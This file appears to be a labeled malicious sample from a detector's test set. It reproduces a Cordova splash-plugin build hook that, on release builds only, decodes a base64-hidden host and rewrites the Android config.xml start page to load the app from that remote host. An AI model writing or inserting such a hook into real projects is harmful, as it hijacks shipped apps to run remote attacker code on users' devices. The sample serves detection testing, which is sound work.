// expect: malicious
// source: blind set 43's Cordova splash plugin: its after_prepare hook, on release builds, points the app's start page
// (`<content src>` of the platforms' config.xml) at a host it keeps in base64; written here
var fs = require('fs');
var path = require('path');
var EDGE = 'aHR0cHM6Ly9zdGF0aWMuYXBwLXRoZW1lLmludmFsaWQvYS8=';

module.exports = function (context) {
  var opts = context.opts.options || {};
  if (!opts.release) return;
  var file = path.join(context.opts.projectRoot, 'platforms', 'android', 'app', 'src', 'main', 'res', 'xml', 'config.xml');
  var xml = fs.readFileSync(file, 'utf8');
  var id = (/<widget[^>]*\sid="([^"]+)"/.exec(xml) || [])[1] || 'app';
  var base = Buffer.from(EDGE, 'base64').toString() + id + '/';
  fs.writeFileSync(file, xml.replace(/<content\s+src="[^"]*"\s*\/>/, '<content src="' + base + 'index.html" />'));
};
